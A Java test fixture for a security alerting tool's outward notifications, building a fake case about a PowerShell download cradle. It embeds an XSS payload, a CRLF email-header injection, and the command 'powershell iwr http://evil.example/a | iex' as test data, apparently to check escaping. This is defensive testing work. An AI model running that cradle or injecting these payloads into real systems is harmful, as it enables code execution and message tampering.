package dev.takagari.alerting.outward;

import dev.takagari.alerting.note.CaseBriefs;
import dev.takagari.alerting.note.CaseLinks;
import dev.takagari.core.cases.Actor;
import dev.takagari.core.cases.Assessment;
import dev.takagari.core.cases.Case;
import dev.takagari.core.cases.CaseCounts;
import dev.takagari.core.cases.CaseKey;
import dev.takagari.core.cases.CaseRecords;
import dev.takagari.core.cases.CaseRepository;
import dev.takagari.core.cases.CaseState;
import dev.takagari.core.cases.CaseTimes;
import dev.takagari.core.cases.CloseReason;
import dev.takagari.core.cases.Disposition;
import dev.takagari.core.cases.Fact;
import dev.takagari.core.cases.FactGroup;
import dev.takagari.core.cases.StoredDetection;
import dev.takagari.core.cases.TimelineEntry;
import dev.takagari.core.detection.DetectionDraft;
import dev.takagari.core.detection.Detections;
import dev.takagari.core.detection.Severity;
import dev.takagari.core.event.Columns;
import dev.takagari.core.telling.Act;
import dev.takagari.core.telling.TellPost;
import dev.takagari.core.telling.TellText;
import java.lang.reflect.Proxy;
import java.net.URI;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/// One case that is told, with events that lie.
final class ToldCases {
  static final CaseKey KEY = new CaseKey(2026, 482);
  static final Instant NOON = Instant.parse("2026-11-20T12:00:00Z");
  static final String HOSTILE =
      "<img src=x onerror=alert(1)>\r\nBcc: everyone@example.org\r\n\r\nhttp://evil.example/x";

  private String title = "PowerShell download cradle";
  private CaseState state = CaseState.OPEN;

  ToldCases titled(String value) {
    title = value;
    return this;
  }

  ToldCases closed() {
    state = CaseState.CLOSED;
    return this;
  }

  Act show(String destination, String marker) {
    return new Act(1, destination, KEY.toString(), Act.Kind.SHOW, marker, "", 1, NOON);
  }

  Act add(String destination, long number, String text) {
    TimelineEntry entry =
        new TimelineEntry(
            number,
            NOON.plusSeconds(number),
            new Actor("mira", Actor.Origin.API),
            TimelineEntry.What.COMMENTED,
            text);
    return new Act(
        2,
        destination,
        KEY.toString(),
        Act.Kind.ADD,
        KEY + ":t" + number,
        TellText.write(entry),
        1,
        NOON);
  }

  Act post(String destination, TellPost post) {
    return new Act(
        3,
        destination,
        "report:weekly:2026-W47",
        Act.Kind.POST,
        "report:weekly:2026-W47",
        TellText.write(post),
        1,
        NOON);
  }

  CaseBriefs briefs() {
    return new CaseBriefs(
        answering(CaseRepository.class, Map.of("find", Optional.of(found()))),
        answering(
            CaseRecords.class,
            Map.of("telling", List.of(detection()), "facts", facts(), "timeline", timeline())),
        new CaseLinks(URI.create("https://takagari.example")));
  }

  private Case found() {
    boolean closed = state == CaseState.CLOSED;
    return new Case(
        KEY,
        "falcon:rule",
        "falcon",
        "rule-1",
        title,
        Severity.HIGH,
        Assessment.of(Severity.HIGH),
        state,
        closed ? CloseReason.EXPECTED : null,
        closed ? HOSTILE : "",
        "mira",
        3,
        new CaseTimes(NOON, NOON, NOON, null, closed ? NOON : null, null),
        new CaseCounts(1, 2, 1),
        null);
  }

  private static StoredDetection detection() {
    return new StoredDetection(
        DetectionDraft.like(Detections.of("d1", "1", "falcon:rule", "ws-0142", NOON))
            .fields(
                Detections.fields(
                    Columns.HOST_NAME, "ws-0142",
                    Columns.USER_NAME, "tomasz",
                    Columns.PROCESS_COMMAND_LINE, "powershell iwr http://evil.example/a | iex",
                    Columns.DESTINATION_DOMAIN, "evil.example"))
            .detection(),
        NOON,
        Disposition.FILED,
        "",
        KEY,
        null,
        1,
        1,
        NOON);
  }

  private static List<FactGroup> facts() {
    LinkedHashMap<String, String> values = new LinkedHashMap<>();
    values.put("verdict", "malicious");
    return List.of(
        new FactGroup(
            FactGroup.Kind.KNOWN,
            FactGroup.State.COMPLETE,
            "",
            NOON,
            List.of(new Fact("indicator", "evil.example <b>is bad</b>", "feed", NOON, values))));
  }

  private static List<TimelineEntry> timeline() {
    return List.of(
        new TimelineEntry(1, NOON, Actor.SYSTEM, TimelineEntry.What.OPENED, "by falcon"));
  }

  private static <T> T answering(Class<T> port, Map<String, Object> answers) {
    return port.cast(
        Proxy.newProxyInstance(
            port.getClassLoader(),
            new Class<?>[] {port},
            (_, method, _) -> {
              Object answer = answers.get(method.getName());
              if (answer == null) {
                throw new UnsupportedOperationException(method.getName());
              }
              return answer;
            }));
  }
}
